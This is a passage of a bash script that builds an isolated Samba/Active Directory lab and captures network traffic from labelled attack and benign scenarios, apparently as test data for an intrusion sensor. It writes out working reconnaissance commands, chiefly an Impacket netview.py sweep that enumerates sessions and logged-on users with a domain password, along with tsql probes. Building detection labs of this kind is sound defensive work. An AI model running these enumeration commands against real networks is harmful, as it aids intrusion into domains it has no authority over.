  X tsql-list indc timeout 20 tsql -L -H "$VIC_IP" < /dev/null || true
  X tsql-instance indc timeout 20 env FREETDSCONF="$PWD/freetds.conf" tsql -S sql01 -U "$DOMAIN\\alice" -P "$ALICE_PW" < /dev/null || true
  sqlbrowser_stop
}

# --- file servers for netview.py's sweep: ws01 (its own namespace) and ws02-ws04 (namespaces of their
# own, veths on br0 like dc2) each run a standalone Samba smbd sharing one folder. Domain accounts are
# not known there (standalone servers): alice and Administrator log on with the same passwords as local
# accounts (tdbsam entries of the Unix users daemon and bin, username map), as a workgroup file server
# with matching local accounts does. smbd runs with _NO_WINBINDD=1 so that it asks the host's files, not
# the lab DC's winbindd, for Unix identities. SMB3 encryption is off, as on the lab DC (LAB_SMB_ENCRYPT).
FS_DIR=$STATE/fileservers
FS_HOSTS=("ws01 $NS_VIC $VIC_IP -" "ws02 labws02 $NET.5 02:00:0a:63:00:05" "ws03 labws03 $NET.6 02:00:0a:63:00:06"
          "ws04 labws04 $NET.7 02:00:0a:63:00:07")
fs_ns_up() {  # fs_ns_up NS IP MAC NAME: a namespace with one veth on br0, as dc2_up
  local ns=$1 ip=$2 mac=$3 name=$4 port=p-$4
  fs_ns_down "$ns" "$name"
  ip netns add "$ns"
  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n "$ns" link set lo up
  ip -n $NS_SW link add "$port" type veth peer name eth0 netns "$ns"
  ip -n "$ns" link set eth0 address "$mac"
  ip -n "$ns" addr add "$ip/24" dev eth0
  ip netns exec "$ns" ethtool -K eth0 tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
  ip netns exec $NS_SW ethtool -K "$port" tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
  ip -n $NS_SW link set "$port" master br0 up
  ip -n "$ns" link set eth0 up
  ns_etc "$ns"
  printf '%s %s.%s %s\n' "$ip" "$name" "$DNSDOM" "$name" >> "/etc/netns/$ns/hosts"
  if ip -n "$ns" route show default | grep -q .; then die "unexpected default route in $ns"; fi
}
fs_ns_down() {  # fs_ns_down NS NAME
  local ns=$1 name=$2 pid
  ns_exists "$ns" || return 0
  for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -TERM "$pid" 2>/dev/null || true; done
  sleep 1
  for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
  ip -n $NS_SW link del "p-$name" 2>/dev/null || true
  ip netns del "$ns"
  rm -rf "/etc/netns/$ns"
}
fs_smbd_start() {  # fs_smbd_start NAME NS IP
  local name=$1 ns=$2 ip=$3 d=$FS_DIR/$1
  rm -rf "$d"; mkdir -p "$d"/{private,lock,state,cache,pid,log,ncalrpc,share}
  printf 'quarterly figures\n' > "$d/share/report.txt"
  printf 'daemon = alice\nbin = Administrator\n' > "$d/users.map"
  {
    printf '[global]\n'
    printf '\t%s\n' "netbios name = ${name^^}" "workgroup = $DOMAIN" "server role = standalone server" "security = user" \
      "username map = $d/users.map" "passdb backend = tdbsam:$d/private/passdb.tdb" "private dir = $d/private" \
      "lock directory = $d/lock" "state directory = $d/state" "cache directory = $d/cache" "pid directory = $d/pid" \
      "ncalrpc dir = $d/ncalrpc" "log file = $d/log/log.%m" "log level = 1" "interfaces = $ip" "bind interfaces only = yes" \
      "disable netbios = yes" "smb ports = 445" "server min protocol = SMB2_02" "server smb encrypt = off" "load printers = no" \
      "printcap name = /dev/null" "disable spoolss = yes"
    printf '[share]\n'
    printf '\t%s\n' "path = $d/share" "read only = yes"
  } > "$d/smb.conf"
  printf '%s\n%s\n' "$ALICE_PW" "$ALICE_PW" | _NO_WINBINDD=1 pdbedit -s "$d/smb.conf" -a -u daemon -t >/dev/null
  printf '%s\n%s\n' "$ADMIN_PW" "$ADMIN_PW" | _NO_WINBINDD=1 pdbedit -s "$d/smb.conf" -a -u bin -t >/dev/null
  # smbd leads its own process group (no --no-process-group): at exit it signals that group, not ours
  ip netns exec "$ns" env _NO_WINBINDD=1 smbd --foreground -s "$d/smb.conf" > "$d/smbd.out" 2>&1 &
  echo $! > "$d/smbd.pid"
  local i; for i in $(seq 1 40); do ip netns exec "$ns" ss -Hltn | grep -q "$ip:445 " && break; sleep 0.25; done
  ip netns exec "$ns" ss -Hltn | grep -q "$ip:445 " || die "smbd of $name did not listen on $ip:445 (see $d/smbd.out)"
}
fs_up() {
  local h name ns ip mac
  for h in "${FS_HOSTS[@]}"; do
    read -r name ns ip mac <<<"$h"
    [ "$ns" = "$NS_VIC" ] || fs_ns_up "$ns" "$ip" "$mac" "$name"
    fs_smbd_start "$name" "$ns" "$ip"
  done
}
fs_down() {  # smbd and its RPC daemon by their PID files; the file servers' own namespaces
  local h name ns ip mac f
  for h in "${FS_HOSTS[@]}"; do
    read -r name ns ip mac <<<"$h"
    for f in "$FS_DIR/$name/pid/samba-dcerpcd.pid" "$FS_DIR/$name/smbd.pid"; do
      if [ -f "$f" ]; then kill -TERM "$(tr -dc 0-9 < "$f")" 2>/dev/null || true; fi
    done
    [ "$ns" = "$NS_VIC" ] || fs_ns_down "$ns" "$name"
  done
  sleep 1
}
fs_targets() {  # the sweep's target list: dc1 and the four file servers
  local h name ns ip mac
  echo "$DC_IP"
  for h in "${FS_HOSTS[@]}"; do read -r name ns ip mac <<<"$h"; echo "$ip"; done
}
pre_atk_netview_sweep() { fs_up; }
# netview.py probes port 445 of every target, then enumerates sessions (NetrSessionEnum level 10) and
# logged-on users (NetrWkstaUserEnum level 1) of the ones that answered, again every -delay seconds.
# One pass of -noloop probes only every other target (checkMachines removes from the list it walks),
# so it runs in its loop until stopped, as it is used.
sc_atk_netview_sweep() {
  fs_targets > targets.txt
  echo "+ (targets.txt: $(paste -sd' ' targets.txt))"
  # shellcheck disable=SC2046
  X netview-sweep ip netns exec $NS_ATK timeout -s INT -k 5 40 $(imp netview) -targets targets.txt -delay 5 "$D/alice:$ALICE_PW" < /dev/null || true
}
post_atk_netview_sweep() { fs_down; }
pre_ben_admin_sessions_two() { fs_up; }
sc_ben_admin_sessions_two() {
  local ip
  for ip in "$DC_IP" "$NET.5"; do
    X "rpcclient-$ip" vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'srvinfo; netsessenum; netshareenumall' "$ip" || true
  done
}
post_ben_admin_sessions_two() { fs_down; }

# a user who mistypes her password once, then gets it right (the benign twin of rdp_check.py's wrong password)
sc_ben_rdp_xfreerdp_badpw() {
  rdp_start
  rdp_client_display
  X xfreerdp-wrong vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:Wrong.Passw0rd!" /sec:nla \
    /cert:ignore +auth-only || true
  X xfreerdp-right vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" /sec:nla \
    /cert:ignore +auth-only || true
  rdp_stop
}

sc_ben_admin_epmlookup() {
  X rpcclient-epmlookup vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'epmlookup' "$DCFQDN" || true
}

pre_ben_admin_setpassword() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; }
sc_ben_admin_setpassword() {
  X samba-tool-setpassword vic samba-tool user setpassword bob --newpassword="$BOB_NEW1" -s "$CLIENTCONF" \
    -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
  X net-rpc-password vic net rpc password bob "$BOB_PW" -s "$CLIENTCONF" -S "$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
}
sc_ben_admin_sessions() {
  X rpcclient vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'srvinfo; netsessenum; netshareenumall' "$DCFQDN" || true
  X net-rpc-share vic net rpc share -s "$CLIENTCONF" -S "$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
  X net-rpc-info vic net rpc info -s "$CLIENTCONF" -S "$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
}
sc_ben_admin_rpcclient_users() {
  X rpcclient-users vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'enumdomusers; enumdomgroups; queryuser bob' "$DCFQDN" || true
}
sc_ben_admin_dsacl() {
  X dsacl-get vic samba-tool dsacl get --objectdn="$BASEDN" -s "$CLIENTCONF" -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
  X user-show vic samba-tool user show bob -s "$CLIENTCONF" -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
  X computer-list vic samba-tool computer list -s "$CLIENTCONF" -H "ldap://$DCFQDN" -U "$DOMAIN\\Administrator%$ADMIN_PW" || true
}

# ---------------------------------------------------------------- runner + manifest
MANIFEST_HEADER=$'file\tkind\texpected_attack_types\twhat_it_shows\timpacket\tcommand\tbytes'

# the command lines of a run, from its log ('+ [label] cmd' lines), with the lab's own paths
# replaced by placeholders so the row reads the same on every machine
commands_of() {
  grep -E '^\+ ' "$1" | sed -E 's/^\+ (\[[^]]*\] )?//; s/^\(background\) //' \
    | sed -E -e 's#^(ak|atk) #attacker: #; s#^vic #ws01: #; s#^indc_client #dc1: #; s#^indc #dc1: #; s#^dc2 #dc2: #' \
             -e "s#env PYTHONPATH=[^ ]+ LAB_TGS_CKSUM_SHIM=0 /usr/bin/python3 #python3 #g" \
             -e "s#env PYTHONPATH=[^ ]+ LAB_TGS_CKSUM_SHIM=1 /usr/bin/python3 #python3 (with lab.sh's Kerberos shim) #g" \
             -e "s#env PYTHONPATH=[^ ]+ /usr/bin/python3 #python3 #g" \
             -e "s#$CUR#<impacket-src>#g" -e "s#$WORK#<work>#g" -e "s#$STATE#<state>#g" -e "s#$TOOLS#lab/tools#g" \
             -e "s#$IMPK_EX/#<impacket-0.10-examples>/#g" -e "s#/usr/bin/python3 #python3 #g" \
    | tr '\t' ' ' | awk 'BEGIN{ORS=""} {if (NR > 1) print " ; "; print}'
}

manifest_put() {  # manifest_put FILE KIND EXPECTED WHAT IMPACKET COMMAND BYTES
  local m=$OUT/MANIFEST.tsv
  [ -s "$m" ] || echo "$MANIFEST_HEADER" > "$m"
  { head -1 "$m"; tail -n +2 "$m" | awk -F'\t' -v f="$1" '$1 != f'; printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$@"; } > "$m.tmp"
  { head -1 "$m.tmp"; tail -n +2 "$m.tmp" | sort; } > "$m"
  rm -f "$m.tmp"
}

isl_run_one() {  # isl_run_one SCENARIO VER(010|014|-)
  local s=$1 v=$2
  declare -F "sc_$s" >/dev/null || die "unknown scenario: $s (see: sensor-lab.sh list)"
  lab_is_up || die "lab is not up: run '$0 setup' first"
  local id=$s; [ "$v" != - ] && id=$s.i$v
  local wd=$WORK/isl-$id pcap=$OUT/$id.pcap logf=$RES/$id.log
  rm -rf "$wd"; mkdir -p "$wd" "$OUT" "$RES"
  IVER=$v
  if declare -F "pre_$s" >/dev/null; then (cd "$wd" && "pre_$s"); fi
  collect_secrets
  # Impacket's relay servers bind without SO_REUSEADDR: a TIME_WAIT left on the attacker's port 80
  # or 445 by the previous run would make the next bind fail. Nothing of it is on the wire.
  local ns; for ns in $NS_ATK $NS_VIC; do ip netns exec $ns ss -K state time-wait >/dev/null 2>&1 || true; done
  log "scenario $id"
  cap_start "$pcap"
  local rc=0
  ( cd "$wd" && set +e && trap - ERR && echo "# $(ver_label "$v")" && "sc_$s" ) > "$logf" 2>&1 || rc=$?
  cap_stop
  if declare -F "post_$s" >/dev/null; then (cd "$wd" && "post_$s") >> "$logf" 2>&1 || true; fi
  [ "${ISL_ANALYZE:-0}" = 1 ] && analyze "$id"
  local by; by=$(stat -c %s "$pcap" 2>/dev/null || echo 0)
  local label; label=$(ver_label "$v")
  manifest_put "$id.pcap" "$(isl_scen_field "$s" 2)" "$(isl_scen_field "$s" 4)" "$(isl_scen_field "$s" 5)" \
    "$label" "$(commands_of "$logf")" "$by"
  log "  $id: rc=$rc bytes=$by -> $pcap"
}

isl_run() {
  local arg s v vers
  for arg in "$@"; do
    s=${arg%%.i0*}
    vers=$(isl_scen_field "$s" 3)
    [ -n "$vers" ] || die "unknown scenario: $s (see: sensor-lab.sh list)"
    if [ "$arg" != "$s" ]; then vers=${arg##*.i}; fi
    for v in $vers; do isl_run_one "$s" "$v"; done
  done
}

isl_prepare() {
  need_root; ensure_impacket_examples; write_shim; write_relay_stub; impacket_source
  mkdir -p "$OUT" "$RES" "$WORK"
  lab_is_up || die "lab is not up: run '$0 setup' first"
  apache_start
}

isl_setup() {
  need_root
  isl_packages
  bash "$LAB_SH" setup
  ensure_impacket_examples; write_shim; write_relay_stub
  impacket_source
  apache_start
  log "sensor lab ready: Impacket 0.10 ($IMPK_EX) and $IMPACKET_CUR_VERSION ($CUR)"
}

isl_teardown() {
  need_root
  apache_stop || true
  dc2_down
  fs_down
  bash "$LAB_SH" teardown "$@"
}

isl_list() {
  local s n k vv e d
  for s in "${ISL_SCENARIOS[@]}"; do
    IFS='|' read -r n k vv e d <<<"$s"
    printf '%-28s %-7s %-8s %-22s %s\n' "$n" "$k" "$vv" "$e" "$d"
  done
}

case "${1:-}" in
  setup)    isl_setup ;;
  run)      shift; [ $# -ge 1 ] || isl_die "usage: $0 run <scenario>[.i010|.i014]..."; isl_prepare; isl_run "$@" ;;
  run-all)  isl_prepare; isl_run $(isl_scen_names) ;;
  list)     isl_list ;;
  manifest) cat "$OUT/MANIFEST.tsv" ;;
  teardown) shift; isl_teardown "$@" ;;
  *) echo "usage: $0 setup | list | run <scenario>[.i010|.i014]... | run-all | manifest | teardown [--purge]" >&2; exit 2 ;;
esac
